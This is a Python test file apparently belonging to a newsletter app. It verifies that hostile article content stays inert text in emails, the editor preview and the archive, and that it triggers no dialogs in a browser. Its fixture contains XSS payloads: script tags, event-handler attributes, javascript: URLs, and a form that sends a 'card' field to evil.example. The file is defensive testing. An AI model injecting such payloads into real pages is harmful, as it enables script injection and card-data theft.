"""Hostile article content (script, event handlers, javascript: links, forms) stays inert text in
the email, the editor's preview page and the archive, and runs nothing in a real browser."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING, Any

import lxml.html
import pytest

from digest import pipeline
from digest.models import Article
from tests.browser import BrowserThread
from tests.web.conftest import NOW, LiveApp
from tests.web.test_editor_in_browser import local_page, sign_in

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog

TITLE = 'Port reopens <script>alert("title")</script><img src=x onerror="alert(1)">'
SUMMARY = (
    'Read <a href="javascript:alert(2)">the report</a>. '
    '<form action="https://evil.example/steal"><input name="card"><button>Win</button></form> '
    '<svg onload="alert(3)"></svg> <iframe src="javascript:alert(4)"></iframe> Done.'
)
TAG = '<b onmouseover="alert(5)">Ports</b>'
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "background", "poster", "data")


@pytest.fixture
def hostile(rt: pipeline.Runtime) -> pipeline.IssueRef:
    """This week's issue with one article stored as a hostile feed could have made it."""
    with rt.sessions.begin() as session:
        session.add(
            Article(
                identity="guid:hostile-1",
                url="javascript:alert(6)",
                title=TITLE,
                published_at=NOW - timedelta(days=1),
                collected_at=NOW - timedelta(hours=1),
                region="West Africa",
                tags=[TAG],
                text="Plain text.",
                word_count=2,
                reading_minutes=1,
                summary=SUMMARY,
                image_url="javascript:alert(7)",
                image_alt='"><script>alert(8)</script>',
            )
        )
    ref = pipeline.compose(rt, "weekly", NOW)
    assert ref is not None and ref.article_count == 13
    return ref


def assert_inert(document: str, *, own_forms: bool) -> lxml.html.HtmlElement:
    """No script, no event handler, no javascript: URL; forms only our own (own_forms)."""
    tree = lxml.html.document_fromstring(document)
    assert not tree.xpath("//script"), "a script element"
    assert not tree.xpath("//iframe[not(@sandbox)] | //svg | //object | //embed")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments (Outlook's conditional comments in the email)
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name, value)
            if name.lower() in URL_ATTRIBUTES:
                assert not value.strip().lower().startswith(("javascript:", "data:text")), value
    forms = tree.xpath("//form")
    if own_forms:
        assert all(form.get("action", "").startswith("/") for form in forms)
        assert not tree.xpath("//input[@name='card']")
    else:
        assert not forms and not tree.xpath("//input")
    return tree


def test_hostile_content_is_escaped_in_the_email_and_the_preview_page(
    app: LiveApp, hostile: pipeline.IssueRef, rt: pipeline.Runtime
) -> None:
    editor = app.editor()
    email = editor.get(f"/editor/issues/{hostile.id}/email.html").text
    tree = assert_inert(email, own_forms=False)
    shown = tree.text_content()
    assert TITLE in shown and 'Read <a href="javascript:alert(2)">the report</a>.' in shown
    assert TAG in shown

    page = editor.get(f"/editor/issues/{hostile.id}")
    tree = assert_inert(page.text, own_forms=True)
    assert TITLE in tree.text_content() and SUMMARY.split(".")[0] not in page.text
    assert "script-src" not in page.headers["content-security-policy"]

    # The javascript: URL never became a link: the check of links passes with it unlinked.
    assert {c.name: c.ok for c in pipeline.checks(rt, hostile.id)}["links"]

    assert pipeline.send(rt, "weekly", NOW).sent == 1
    web = editor.get(f"/archive/weekly/{hostile.number}").text
    assert TITLE in assert_inert(web, own_forms=False).text_content()


def test_hostile_content_runs_nothing_in_the_browser(
    browser: BrowserThread, app: LiveApp, hostile: pipeline.IssueRef
) -> None:
    def open_preview(b: Browser) -> dict[str, Any]:
        seen: dict[str, Any] = {"dialogs": [], "errors": []}
        with local_page(b) as page:

            def refuse(dialog: Dialog) -> None:
                seen["dialogs"].append(dialog.message)
                dialog.dismiss()

            page.on("dialog", refuse)
            page.on("pageerror", lambda e: seen["errors"].append(str(e)))
            sign_in(page, app)
            page.goto(f"{app.url}/editor/issues/{hostile.id}")
            page.wait_for_load_state("load")
            frame = page.frame_locator("iframe").first
            seen["shown"] = frame.get_by_text("Port reopens").first.inner_text()
            frame.get_by_text("the report").first.click()  # the javascript: "link" is text
            page.get_by_text("Port reopens").first.click()
            page.wait_for_timeout(300)
        return seen

    seen = browser.run(open_preview)
    assert seen["dialogs"] == [] and seen["errors"] == []
    assert '<script>alert("title")</script>' in seen["shown"]
